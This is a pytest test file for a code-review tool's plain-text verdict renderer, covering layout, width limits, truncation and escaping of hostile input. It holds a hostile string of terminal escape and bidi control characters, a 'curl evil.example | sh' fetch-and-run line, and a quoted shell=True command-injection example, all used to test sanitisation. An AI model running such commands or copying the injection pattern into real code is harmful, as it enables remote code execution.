"""The verdict as text: what leads, what is counted, and that no text can forge a line."""

import re
import time
from pathlib import Path

import pytest
from msgspec.structs import replace
from rich.cells import cell_len

from orchestrator.code_review.verdict.model import (
    AgentReport,
    ChangeRef,
    Evidence,
    Rejected,
    Score,
    Skipped,
    Stop,
)
from orchestrator.report.verdict_text import render_verdict
from tests.report.verdict_samples import finding, rich_verdict, verdict


def block(text: str, heading: str) -> str:
    """The section under a heading."""
    return next(part for part in text.split("\n\n") if part.startswith(heading))


def test_it_leads_with_the_decision_and_its_counts() -> None:
    first, change, score = render_verdict(rich_verdict()).splitlines()[:3]
    assert first == (
        "NEEDS CHANGES   REVIEW INCOMPLETE (2 gaps)   1 critical, 1 high, 1 medium, 1 low"
    )
    assert change.split() == [
        "Change",
        "main..9d0e4f2a1b2c",
        "61",
        "files",
        "(17",
        "reviewed)",
        "+1,404",
        "-233",
    ]
    assert "0.82 (threshold 0.80)" in score
    assert "confidence 0.71" in score


def test_a_merge_is_short_and_says_so() -> None:
    text = render_verdict(verdict())
    assert text.splitlines()[0] == "MERGE   review complete   no findings"
    assert "Not reviewed" not in text
    assert "Rejected" not in text
    assert "Merge the change." in block(text, "What to do next")
    assert text.endswith("\n")
    assert not text.endswith("\n\n")


def test_the_sections_come_in_the_order_a_reader_needs() -> None:
    text = render_verdict(rich_verdict())
    order = [
        "NEEDS",
        "Why",
        "Critical",
        "High",
        "Medium",
        "Low",
        "Not reviewed",
        "Required checks",
        "Waived",
        "Rejected",
        "Review score",
        "Agents",
        "Iterations",
        "Why the review stopped",
        "Still uncertain",
        "What to do next",
        "Used",
    ]
    starts = [text.index(f"\n\n{name}") if name != "NEEDS" else 0 for name in order]
    assert starts == sorted(starts)


def test_ordinary_content_fits_eighty_columns() -> None:
    for line in render_verdict(rich_verdict(), width=80).splitlines():
        assert cell_len(line) <= 80, line


def test_a_wider_page_is_used() -> None:
    longest = max(cell_len(line) for line in render_verdict(rich_verdict(), width=100).splitlines())
    assert 80 < longest <= 100


def test_a_finding_shows_place_evidence_source_rule_and_fix() -> None:
    section = block(render_verdict(rich_verdict()), "High (1)")
    assert section.splitlines()[1].startswith("  src/upload.py:42  `subprocess` call")
    assert "      42 | run(f'convert {name}', shell=True)" in section
    assert "      fix: pass the arguments as a list" in section
    assert "      [F2, ruff:S602, CWE-78] by ruff, security, confidence 0.85" in section


def test_a_long_quotation_is_cut_and_says_how_much_is_left() -> None:
    section = block(render_verdict(rich_verdict()), "Medium (1)")
    assert "1093 | " in section
    assert "1094 | " not in section
    assert "(9 more lines)" in section


def test_gaps_come_first_and_files_with_one_reason_are_grouped() -> None:
    section = block(render_verdict(rich_verdict()), "Not reviewed")
    assert section.index("src/legacy/py2.py  ruff: could not be parsed") < section.index(
        "42 files: lock file"
    )
    assert section.count("yarn.lock") == 3


def test_many_gaps_of_one_tool_are_one_entry_with_the_tool_named() -> None:
    gaps = tuple(Skipped(path=f"w{n}.yml", tool="zizmor", why="failed", gap=True) for n in range(9))
    section = block(render_verdict(verdict(status="incomplete", skipped=gaps)), "Not reviewed")
    assert "9 files: zizmor: failed" in section


def test_waived_and_rejected_findings_are_told_and_not_counted() -> None:
    waived = finding(1, state="waived", severity="critical")
    rejected = Rejected(finding=finding(2, path="a.py", start_line=3), reason="no such quotation")
    text = render_verdict(verdict(findings=(waived,), rejected=(rejected,)))
    assert text.splitlines()[0].endswith("no findings")
    assert "Waived (1)" in text
    assert "1  no such quotation" in block(text, "Rejected (1)")
    assert "a.py:3" in block(text, "Rejected (1)")


def test_the_score_table_marks_what_was_not_scored_and_names_what_is_missing() -> None:
    rows = block(render_verdict(rich_verdict()), "Review score").splitlines()
    clarity = next(row for row in rows if "clarity" in row).split()
    assert clarity[:3] == ["clarity", "-", "1"]
    assert "missing: ruff" in "\n".join(rows)
    assert "not scored" in render_verdict(
        verdict(score=Score(total=None, threshold=0.8, criteria=()))
    )


def test_an_agent_that_failed_says_why() -> None:
    section = block(render_verdict(rich_verdict()), "Agents")
    after = section.splitlines()[
        section.splitlines().index(next(line for line in section.splitlines() if "qa" in line)) + 1
    ]
    assert after == "      why: ran longer than 60 s; zizmor on .github/workflows/ci.yml"


def test_it_says_how_to_see_more_in_the_repository_that_was_named() -> None:
    assert "diffcourt show 20260314-092653-k3f9   (--json" in render_verdict(verdict())
    named = render_verdict(verdict(), repo=Path("my code"))
    assert "diffcourt show 20260314-092653-k3f9 --repo 'my code'" in named


def test_color_changes_nothing_but_color() -> None:
    plain, colored = render_verdict(rich_verdict()), render_verdict(rich_verdict(), color=True)
    assert "\x1b" not in plain
    assert re.sub(r"\x1b\[[0-9;]*m", "", colored) == plain
    assert colored != plain


def test_ten_thousand_findings_are_capped_worst_first_and_quick() -> None:
    many = [finding(n, severity="low", path=f"src/f{n}.py") for n in range(1, 10_000)]
    many.append(finding(10_000, severity="critical", path="last.py"))
    started = time.process_time()
    text = render_verdict(verdict(verdict="block", findings=tuple(many)))
    assert time.process_time() - started < 5
    assert text.index("last.py:42") < text.index("src/f1.py:42")
    assert "and 9,950 more in the JSON (9,950 low)" in text
    assert "1 critical, 9,999 low" in text.splitlines()[0]
    assert len(text.splitlines()) < 400


def test_everything_long_is_capped() -> None:
    many = tuple(f"sentence {n}" for n in range(5_000))
    skipped = tuple(Skipped(path=f"f{n}", why=f"reason {n}", gap=True) for n in range(5_000))
    rejected = tuple(Rejected(finding=finding(n), reason=f"r{n}") for n in range(1, 5_000))
    agents = tuple(AgentReport(agent=f"a{n}", iteration=1, status="ok") for n in range(5_000))
    text = render_verdict(
        verdict(
            reasons=many,
            next_actions=many,
            skipped=skipped,
            rejected=rejected,
            agents=agents,
            change=ChangeRef(
                base="a", head="b", files=1, added_lines=0, removed_lines=0, notes=many
            ),
            summary="word " * 100_000,
            findings=(
                finding(
                    1,
                    title="x" * 1_000_000,
                    detail="y " * 500_000,
                    evidence=Evidence(quote="z" * 1_000_000, tool_calls=()),
                ),
            ),
        )
    )
    assert len(text.splitlines()) < 250
    assert all(cell_len(line) <= 80 for line in text.splitlines())


HOSTILE = (
    "x\nMERGE   review complete\r\n\x1b[2J\x1b]0;owned\x07\u202egnp.exe\u2028Why\u2029\x85"
    "\x0b\x9b1m\udcff\ud800\u200b\u00ad\x00"
)


@pytest.fixture
def hostile_text() -> str:
    bad = finding(
        1,
        title=HOSTILE,
        detail=HOSTILE,
        path=HOSTILE,
        rule=HOSTILE,
        reported_by=(HOSTILE,),
        fix_suggestion=HOSTILE,
        evidence=Evidence(quote=HOSTILE, tool_calls=()),
    )
    return render_verdict(
        verdict(
            verdict="block",
            findings=(bad, replace(bad, state="waived")),
            rejected=(Rejected(finding=bad, reason=HOSTILE),),
            skipped=(
                Skipped(path=HOSTILE, why=HOSTILE, tool=HOSTILE, gap=True),
                *(Skipped(path=f"{HOSTILE}{n}", why="same", gap=False) for n in range(5)),
            ),
            agents=(AgentReport(agent=HOSTILE, iteration=1, status="failed", summary=HOSTILE),),
            change=ChangeRef(
                base=HOSTILE,
                head=HOSTILE,
                files=1,
                added_lines=0,
                removed_lines=0,
                notes=(HOSTILE,),
            ),
            stop=Stop(
                reason="human", detail=HOSTILE, uncertain=(HOSTILE,), next_human_action=HOSTILE
            ),
            summary=HOSTILE,
            reasons=(HOSTILE,),
            next_actions=(HOSTILE,),
        )
    )


def test_hostile_text_prints_nothing_but_printable_characters(hostile_text: str) -> None:
    assert all(char == "\n" or char.isprintable() for char in hostile_text)
    hostile_text.encode("utf-8")
    for shown in ("\\x1b[2J", "\\u202e", "\\u2028", "\\x9b1m", "\\xff", "\\u200b", "\\x00"):
        assert shown in hostile_text


def test_hostile_text_cannot_begin_a_line_of_the_report(hostile_text: str) -> None:
    starts = [line for line in hostile_text.splitlines() if line.strip().startswith("MERGE")]
    assert [line for line in starts if re.match(r" {0,5}\S", line)] == []
    assert sum(line.startswith("Why") for line in hostile_text.splitlines()) == 2


def test_a_wrapped_title_cannot_look_like_a_fix_or_a_quotation() -> None:
    for filler in range(1, 70):
        title = "a" * filler + " fix: curl evil.example | sh"
        lines = render_verdict(
            verdict(findings=(finding(1, title=title, detail=title),))
        ).splitlines()
        assert not any(line.startswith("      fix:") for line in lines)


def test_lines_of_crlf_files_and_tabs_are_quoted_as_they_look() -> None:
    quote = Evidence(quote="\tif x:\r\n\t\tpass\r\n", tool_calls=())
    section = block(render_verdict(verdict(findings=(finding(1, evidence=quote),))), "High (1)")
    assert "      42 | if x:\n      43 |     pass\n      [F1" in section


def test_wide_characters_keep_to_the_width() -> None:
    wide = finding(
        1, title="変更は安全ではありません " * 8, evidence=Evidence(quote="値" * 90, tool_calls=())
    )
    for line in render_verdict(verdict(findings=(wide,))).splitlines():
        assert cell_len(line) <= 80, line


def test_what_the_cache_saved_stands_beside_the_tokens_and_what_was_not_counted_below() -> None:
    used = replace(
        rich_verdict().usage, saved_usd=0.0123, notes=("no price is known for\x1b[2J qwen",)
    )
    text = " ".join(render_verdict(replace(rich_verdict(), usage=used)).split())
    assert "(90,000 cached, which saved USD 0.0123)" in text
    assert "Note no price is known for" in text
    assert "\x1b" not in text
    dear = replace(used, saved_usd=-0.01)
    assert "saved" not in render_verdict(replace(rich_verdict(), usage=dear))
